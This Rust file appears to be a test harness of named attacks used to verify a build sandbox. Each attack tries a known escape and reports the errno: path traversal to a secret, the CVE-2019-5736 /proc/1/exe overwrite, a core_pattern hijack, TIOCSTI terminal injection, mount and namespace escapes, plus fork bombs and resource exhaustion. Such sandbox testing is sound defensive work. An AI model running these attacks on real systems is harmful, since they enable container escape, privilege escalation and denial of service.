//! The attackers: what runs inside, by name.
//!
//! An attacker prints one line for each way it tries: `what: ok` or
//! `what: ERRNO`. It does not judge.

use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{SocketAddr, UnixStream};
use std::path::Path;
use std::time::Duration;

use kiln_derivations::sandbox::seccomp::table;
use libc::c_long;

/// Runs before `main`, and so before the test harness.
#[used]
#[unsafe(link_section = ".init_array")]
static BEFORE_MAIN: extern "C" fn() = before_main;

extern "C" fn before_main() {
    let Ok(name) = std::env::var("KILN_ATTACK") else {
        return;
    };
    match ATTACKS.iter().find(|(known, _)| *known == name) {
        Some((_, attack)) => attack(),
        None => println!("no attack is called {name}"),
    }
    io::stdout().flush().unwrap();
    // SAFETY: ends this process without running what a half-started one would.
    unsafe { libc::_exit(0) }
}

type Attack = (&'static str, fn());

const ATTACKS: &[Attack] = &[
    ("host-files", host_files),
    ("host-processes", host_processes),
    ("network", network),
    ("sockets", sockets),
    ("descriptors", descriptors),
    ("outlive", outlive),
    ("swap", swap),
    ("proc-writes", proc_writes),
    ("devices", devices),
    ("mounts", mounts),
    ("namespaces", namespaces),
    ("system-calls", system_calls),
    ("foreign", foreign),
    ("pid-one", pid_one),
    ("program", program),
    ("setuid", setuid),
    ("terminal", terminal),
    ("kill-all", kill_all),
    ("inputs", inputs),
    ("fork-bomb", fork_bomb),
    ("memory", memory),
    ("shared-memory", shared_memory),
    ("deep", deep),
    ("huge", huge),
    ("flood", flood),
    ("fill", fill),
];

fn tell<T>(what: &str, result: io::Result<T>) {
    match result {
        Ok(_) => println!("{what}: ok"),
        Err(error) => println!("{what}: {}", name(&error)),
    }
}

fn name(error: &io::Error) -> String {
    let known = [
        (libc::EPERM, "EPERM"),
        (libc::ENOENT, "ENOENT"),
        (libc::ESRCH, "ESRCH"),
        (libc::EACCES, "EACCES"),
        (libc::EROFS, "EROFS"),
        (libc::EXDEV, "EXDEV"),
        (libc::ENXIO, "ENXIO"),
        (libc::ENOSYS, "ENOSYS"),
        (libc::EOPNOTSUPP, "EOPNOTSUPP"),
        (libc::EAFNOSUPPORT, "EAFNOSUPPORT"),
        (libc::EPROTONOSUPPORT, "EPROTONOSUPPORT"),
        (libc::ECONNREFUSED, "ECONNREFUSED"),
        (libc::ENETUNREACH, "ENETUNREACH"),
        (libc::ENOTTY, "ENOTTY"),
    ];
    let errno = error.raw_os_error().unwrap_or(0);
    let found = known.iter().find(|(number, _)| *number == errno);
    found.map_or_else(|| error.to_string(), |(_, name)| (*name).into())
}

fn variable(name: &str) -> String {
    std::env::var(name).unwrap()
}

fn call(number: c_long, arguments: [c_long; 5]) -> io::Result<c_long> {
    let [a, b, c, d, e] = arguments;
    // SAFETY: an attacker; the calls are meant to be refused.
    let result = unsafe { libc::syscall(number, a, b, c, d, e, 0) };
    if result < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(result)
    }
}

fn write_to(path: impl AsRef<Path>) -> io::Result<File> {
    OpenOptions::new().write(true).open(path)
}

fn host_files() {
    let secret = variable("SECRET");
    let below = secret.trim_start_matches('/');
    let climb = "../".repeat(40);
    tell("absolute", fs::read(&secret));
    tell("dots", fs::read(format!("/{climb}{below}")));
    for door in ["root", "cwd"] {
        for process in ["1", "self"] {
            tell(
                "door",
                fs::read(format!("/proc/{process}/{door}/{climb}{below}")),
            );
        }
    }
    for fd in 0..64 {
        for process in ["1", "self"] {
            let door = format!("/proc/{process}/fd/{fd}/{climb}{below}");
            if let Ok(text) = fs::read_to_string(door) {
                println!("read {text}");
            }
        }
    }
    let name = CString::new("/build/link").unwrap();
    std::os::unix::fs::symlink(&secret, "/build/link").unwrap();
    tell("link", fs::read("/build/link"));
    tell(
        "chroot",
        call(libc::SYS_chroot, [name.as_ptr() as c_long, 0, 0, 0, 0]),
    );
    tell(
        "handle",
        call(
            libc::SYS_open_by_handle_at,
            [libc::AT_FDCWD.into(), 0, 0, 0, 0],
        ),
    );
}

fn host_processes() {
    let pid: i32 = variable("VICTIM").parse().unwrap();
    let victim = c_long::from(pid);
    tell("kill", call(libc::SYS_kill, [victim, 9, 0, 0, 0]));
    tell("pidfd", call(libc::SYS_pidfd_open, [victim, 0, 0, 0, 0]));
    let attach = libc::PTRACE_SEIZE as c_long;
    tell("ptrace", call(libc::SYS_ptrace, [attach, victim, 0, 0, 0]));
    tell(
        "read",
        call(libc::SYS_process_vm_readv, [victim, 0, 0, 0, 0]),
    );
    tell("proc", fs::read(format!("/proc/{pid}/environ")));
    let visible = fs::read_dir("/proc").unwrap().filter(|entry| {
        let name = entry.as_ref().unwrap().file_name();
        name.to_string_lossy()
            .bytes()
            .all(|byte| byte.is_ascii_digit())
    });
    println!("processes: {}", visible.count());
}

fn network() {
    for address in variable("ADDRESSES").split(' ') {
        let address: std::net::SocketAddr = address.parse().unwrap();
        tell(
            "tcp",
            TcpStream::connect_timeout(&address, Duration::from_secs(2)),
        );
        let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
        let _ = udp.send_to(b"out", address);
    }
    let abstract_name = SocketAddr::from_abstract_name(variable("ABSTRACT")).unwrap();
    tell("abstract", UnixStream::connect_addr(&abstract_name));
    tell("path", UnixStream::connect(variable("SOCKET")));
    let interfaces = fs::read_to_string("/proc/net/dev").unwrap();
    let names = interfaces
        .lines()
        .skip(2)
        .map(|line| line.split(':').next().unwrap().trim());
    println!("interfaces: {}", names.collect::<Vec<_>>().join(" "));
}

fn sockets() {
    let families = [
        ("alg", 38),
        ("packet", 17),
        ("vsock", 40),
        ("can", 29),
        ("tipc", 30),
        ("bluetooth", 31),
        ("xdp", 44),
        ("rds", 21),
        ("x25", 9),
        ("qipcrtr", 42),
    ];
    for (name, family) in families {
        tell(name, call(libc::SYS_socket, [family, 2, 0, 0, 0]));
    }
    tell("raw", call(libc::SYS_socket, [2, 3, 1, 0, 0]));
    tell("sctp", call(libc::SYS_socket, [2, 1, 132, 0, 0]));
    tell("uevent", call(libc::SYS_socket, [16, 2, 15, 0, 0]));
}

fn descriptors() {
    for process in ["self", "1"] {
        let directory = format!("/proc/{process}/fd");
        let mut own: Vec<String> = fs::read_dir(&directory)
            .unwrap()
            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
            .filter_map(|fd| {
                let target = fs::read_link(format!("{directory}/{fd}")).ok()?;
                let target = target.to_string_lossy().into_owned();
                let kind = target.split(':').next().unwrap().to_string();
                (!kind.starts_with("/proc/")).then_some(format!("{fd}={kind}"))
            })
            .collect();
        own.sort();
        println!("{process}: {}", own.join(" "));
    }
    for fd in 0..3 {
        // SAFETY: only asks.
        let flags = unsafe { libc::fcntl(fd, libc::F_GETFL) };
        println!("{fd}: {}", flags & libc::O_ACCMODE);
    }
}

/// Two generations away from the builder, in a session of its own, deaf to all
/// signals, with the pipe closed: writes on until it is killed.
fn outlive() {
    let file = OpenOptions::new()
        .create(true)
        .append(true)
        .open("/out/kept")
        .unwrap();
    // SAFETY: single-threaded; the children only make system calls.
    unsafe {
        if libc::fork() == 0 {
            libc::setsid();
            if libc::fork() == 0 {
                for signal in 1..32 {
                    libc::signal(signal, libc::SIG_IGN);
                }
                if std::env::var_os("CLOSE").is_some() {
                    for fd in 0..3 {
                        libc::close(fd);
                    }
                }
                loop {
                    libc::write(file.as_raw_fd(), b"x".as_ptr().cast(), 1);
                    libc::usleep(200);
                }
            }
            libc::_exit(0);
        }
    }
    // The writer is at work when the builder leaves.
    while file.metadata().unwrap().len() < 5 {
        std::thread::sleep(Duration::from_millis(1));
    }
    println!("left");
}

/// Exchanges a directory of the output and a link to a secret, for ever.
fn swap() {
    fs::create_dir("/out/a").unwrap();
    std::os::unix::fs::symlink(variable("SECRET"), "/out/b").unwrap();
    // SAFETY: single-threaded; the child only makes system calls.
    unsafe {
        if libc::fork() == 0 {
            let (a, b) = (c"/out/a".as_ptr(), c"/out/b".as_ptr());
            loop {
                libc::renameat2(libc::AT_FDCWD, a, libc::AT_FDCWD, b, libc::RENAME_EXCHANGE);
            }
        }
    }
    std::thread::sleep(Duration::from_millis(20));
}

/// Tries to open everything below some directories of `/proc` for writing.
fn proc_writes() {
    let mut opened = Vec::new();
    let mut tried = 0;
    for root in [
        "/proc/sys",
        "/proc/self",
        "/proc/1",
        "/proc/irq",
        "/proc/fs",
        "/proc/bus",
    ] {
        try_all(Path::new(root), &mut opened, &mut tried);
    }
    for file in ["sysrq-trigger", "mtrr", "timer_list", "kcore", "kmsg"] {
        if write_to(Path::new("/proc").join(file)).is_ok() {
            opened.push(file.into());
        }
    }
    println!("many were tried: {}", tried > 500);
    println!("opened: {}", opened.join(" "));
    tell(
        "chmod",
        fs::set_permissions("/proc/sys/kernel", fs::Permissions::from_mode(0o777)),
    );
    tell(
        "core_pattern",
        fs::write("/proc/sys/kernel/core_pattern", "|/build/x"),
    );
}

fn try_all(directory: &Path, opened: &mut Vec<String>, tried: &mut usize) {
    let Ok(entries) = fs::read_dir(directory) else {
        return;
    };
    for entry in entries.filter_map(Result::ok) {
        let path = entry.path();
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => try_all(&path, opened, tried),
            Ok(kind) if kind.is_file() => {
                *tried += 1;
                if write_to(&path).is_ok() {
                    opened.push(path.display().to_string());
                }
            }
            _ => {}
        }
    }
}

fn devices() {
    let mut names: Vec<_> = fs::read_dir("/dev")
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    println!("devices: {}", names.join(" "));
    for (what, mode) in [("char", libc::S_IFCHR), ("block", libc::S_IFBLK)] {
        for place in [c"/out/node", c"/tmp/node", c"/dev/node"] {
            let arguments = [
                libc::AT_FDCWD.into(),
                place.as_ptr() as c_long,
                (mode | 0o666).into(),
                0x101,
                0,
            ];
            tell(what, call(libc::SYS_mknodat, arguments));
        }
    }
    for device in ["null", "full", "zero"] {
        let path = format!("/dev/{device}");
        tell(
            "chmod",
            fs::set_permissions(&path, fs::Permissions::from_mode(0o600)),
        );
        tell("remove", fs::remove_file(&path));
    }
    tell("create", File::create("/dev/new"));
    for path in [
        "/sys",
        "/dev/kmsg",
        "/dev/mem",
        "/dev/sda",
        "/dev/vda",
        "/dev/kvm",
        "/dev/fuse",
    ] {
        tell(path, fs::metadata(path));
    }
    tell(
        "kcore",
        File::open("/proc/kcore").and_then(|mut file| file.read(&mut [0; 64])),
    );
}

fn mounts() {
    let bind = libc::MS_BIND as c_long;
    let remount = (libc::MS_REMOUNT | libc::MS_BIND) as c_long;
    let (root, tmp, tmpfs) = (
        c"/".as_ptr() as c_long,
        c"/tmp".as_ptr() as c_long,
        c"tmpfs".as_ptr() as c_long,
    );
    tell(
        "remount",
        call(libc::SYS_mount, [root, root, 0, remount, 0]),
    );
    tell("bind", call(libc::SYS_mount, [root, tmp, 0, bind, 0]));
    tell("tmpfs", call(libc::SYS_mount, [tmpfs, tmp, tmpfs, 0, 0]));
    tell(
        "umount",
        call(libc::SYS_umount2, [c"/in".as_ptr() as c_long, 2, 0, 0, 0]),
    );
    tell(
        "pivot_root",
        call(libc::SYS_pivot_root, [tmp, tmp, 0, 0, 0]),
    );
    tell("fsopen", call(libc::SYS_fsopen, [tmpfs, 0, 0, 0, 0]));
    tell(
        "open_tree",
        call(libc::SYS_open_tree, [-100, root, 1, 0, 0]),
    );
    tell(
        "mount_setattr",
        call(libc::SYS_mount_setattr, [-100, root, 0, 0, 0]),
    );
    for path in ["/x", "/bin/x", "/in/x", "/etc/passwd"] {
        let opened = OpenOptions::new()
            .write(true)
            .create(true)
            .truncate(false)
            .open(path);
        tell(path, opened);
    }
}

fn namespaces() {
    for shift in [17, 25, 26, 27, 28, 29, 30, 7] {
        tell("unshare", call(libc::SYS_unshare, [1 << shift, 0, 0, 0, 0]));
    }
    for shift in [17, 25, 26, 27, 28, 29, 30] {
        let flags = (1 << shift) | c_long::from(libc::SIGCHLD);
        match call(libc::SYS_clone, [flags, 0, 0, 0, 0]) {
            // SAFETY: the child of an attack that came through.
            Ok(0) => unsafe { libc::_exit(0) },
            result => tell("clone", result),
        }
    }
    tell("clone3", call(libc::SYS_clone3, [0, 0, 0, 0, 0]));
    let own = File::open("/proc/self/ns/user").unwrap();
    tell(
        "setns",
        call(libc::SYS_setns, [own.as_raw_fd().into(), 0, 0, 0, 0]),
    );
    tell("uid_map", fs::write("/proc/self/uid_map", "0 0 1"));
    tell(
        "hostname",
        call(libc::SYS_sethostname, [c"x".as_ptr() as c_long, 1, 0, 0, 0]),
    );
}

/// Every refused call of the contract, as the kernel answers it.
fn system_calls() {
    for refusal in table::REFUSALS {
        let number = if cfg!(target_arch = "x86_64") {
            refusal.x86_64
        } else {
            refusal.aarch64
        };
        let Some(number) = number else { continue };
        let errno = match call(number.into(), [0; 5]) {
            Ok(_) => 0,
            Err(error) => error.raw_os_error().unwrap_or(0),
        };
        if errno != refusal.errno {
            println!("{} gave {errno}, not {}", refusal.name, refusal.errno);
        }
    }
    for number in [451, 452, 462, 500] {
        tell("unknown", call(number, [0; 5]));
    }
    println!("done");
}

/// getpid by the ways of other architectures.
fn foreign() {
    #[cfg(target_arch = "x86_64")]
    {
        tell("x32", call(0x4000_0000 + 39, [0; 5]));
        let mut result: i64 = 20;
        // SAFETY: getpid of i386, which touches nothing but the result.
        unsafe { std::arch::asm!("int 0x80", inout("rax") result) };
        let result = result as i32;
        println!(
            "i386: {}",
            if result == -libc::ENOSYS {
                "ENOSYS"
            } else {
                "other"
            }
        );
    }
    #[cfg(not(target_arch = "x86_64"))]
    println!("x32: ENOSYS\ni386: ENOSYS");
}

fn pid_one() {
    tell("mem", write_to("/proc/1/mem"));
    tell("own mem", write_to("/proc/self/mem"));
    tell(
        "ptrace",
        call(libc::SYS_ptrace, [libc::PTRACE_SEIZE as c_long, 1, 0, 0, 0]),
    );
    tell("vm", call(libc::SYS_process_vm_writev, [1, 0, 0, 0, 0]));
    let pidfd = call(libc::SYS_pidfd_open, [1, 0, 0, 0, 0]).unwrap();
    tell("getfd", call(libc::SYS_pidfd_getfd, [pidfd, 0, 0, 0, 0]));
    tell(
        "limits",
        call(
            libc::SYS_prlimit64,
            [1, libc::RLIMIT_NPROC as c_long, 0, 0, 0],
        ),
    );
    for signal in 1..32 {
        let _ = call(libc::SYS_kill, [1, signal, 0, 0, 0]);
    }
    tell("alive", call(libc::SYS_kill, [1, 0, 0, 0, 0]));
}

/// The way of CVE-2019-5736: the program that pid 1 runs.
fn program() {
    for path in ["/proc/1/exe", "/proc/self/exe"] {
        let _ = fs::set_permissions(path, fs::Permissions::from_mode(0o777));
        tell(path, write_to(path));
    }
    if let Ok(file) = File::open("/proc/1/exe") {
        let again = format!("/proc/self/fd/{}", file.as_raw_fd());
        // SAFETY: an attacker.
        let result = unsafe { libc::fchmod(file.as_raw_fd(), 0o777) };
        println!("fchmod: {}", if result == 0 { "ok" } else { "refused" });
        tell("again", write_to(again));
    }
}

fn setuid() {
    fs::copy("/bin/id", "/out/id").unwrap();
    tell(
        "chmod",
        fs::set_permissions("/out/id", fs::Permissions::from_mode(0o6755)),
    );
    let output = std::process::Command::new("/out/id")
        .arg("-u")
        .output()
        .unwrap();
    print!("{}", String::from_utf8_lossy(&output.stdout));
    for capability in [
        "CapEff",
        "CapPrm",
        "CapBnd",
        "CapInh",
        "CapAmb",
        "NoNewPrivs",
    ] {
        let status = fs::read_to_string("/proc/self/status").unwrap();
        let line = status
            .lines()
            .find(|line| line.starts_with(capability))
            .unwrap();
        println!("{}", line.replace('\t', " "));
    }
    tell(
        "chown",
        std::os::unix::fs::chown("/out/id", Some(0), Some(0)),
    );
}

fn terminal() {
    let tty = write_to("/dev/tty");
    let byte = b'x';
    for (what, request) in [
        ("TIOCSTI", 0x5412),
        ("TIOCLINUX", 0x541c),
        ("TIOCSETD", 0x5423),
    ] {
        for fd in [0, 1, tty.as_ref().map_or(2, |tty| tty.as_raw_fd())] {
            let argument = &raw const byte as c_long;
            tell(
                what,
                call(libc::SYS_ioctl, [fd.into(), request, argument, 0, 0]),
            );
            let upper = 1 << 32;
            tell(
                what,
                call(
                    libc::SYS_ioctl,
                    [fd.into(), request | upper, argument, 0, 0],
                ),
            );
        }
    }
    tell("/dev/tty", tty);
}

fn kill_all() {
    println!("before");
    io::stdout().flush().unwrap();
    let _ = call(libc::SYS_kill, [-1, 9, 0, 0, 0]);
    // The caller is spared.
    let _ = call(libc::SYS_kill, [std::process::id().into(), 9, 0, 0, 0]);
}

fn inputs() {
    tell("write", write_to("/in/other/data"));
    tell(
        "chmod",
        fs::set_permissions("/in/other/data", fs::Permissions::from_mode(0o777)),
    );
    tell("remove", fs::remove_file("/in/other/data"));
    tell("rename", fs::rename("/in/other", "/in/mine"));
    tell("link", fs::hard_link("/in/other/data", "/out/data"));
    tell(
        "touch",
        File::open("/in/other/data").and_then(|file| file.set_modified(std::time::UNIX_EPOCH)),
    );
    let file = File::open("/in/other/data").unwrap();
    tell(
        "reopen",
        write_to(format!("/proc/self/fd/{}", file.as_raw_fd())),
    );
}

fn fork_bomb() {
    // SAFETY: an attacker.
    unsafe {
        libc::signal(libc::SIGTERM, libc::SIG_IGN);
        loop {
            libc::fork();
        }
    }
}

fn memory() {
    let mut all = Vec::new();
    loop {
        all.push(vec![1_u8; 8 << 20]);
    }
}

fn shared_memory() {
    let mut file = File::create("/dev/shm/x").unwrap();
    let chunk = vec![1_u8; 1 << 20];
    let mut written = 0;
    while file.write_all(&chunk).is_ok() {
        written += 1;
    }
    println!("MiB: {written}");
    memory();
}

/// Deeper than a path can name, and a file at the end.
fn deep() {
    for _ in 0..5000 {
        fs::create_dir("d").unwrap();
        std::env::set_current_dir("d").unwrap();
    }
    fs::write("end", vec![1; 1 << 20]).unwrap();
    let stay_ms = std::env::var("STAY_MS").map_or(300, |text| text.parse().unwrap());
    std::thread::sleep(Duration::from_millis(stay_ms));
    println!("deep");
}

fn huge() {
    fs::create_dir("/build/huge").unwrap();
    for index in 0..40_000 {
        File::create(format!("/build/huge/{index}")).unwrap();
    }
    println!("huge");
}

fn flood() {
    let line = [b'x'; 65536];
    loop {
        if io::stdout().write_all(&line).is_err() {
            return;
        }
    }
}

fn fill() {
    let chunk = vec![1_u8; 1 << 20];
    for index in 0.. {
        let mut file = File::create(format!("/out/{index}")).unwrap();
        for _ in 0..8 {
            file.write_all(&chunk).unwrap();
        }
        std::thread::sleep(Duration::from_millis(5));
    }
}
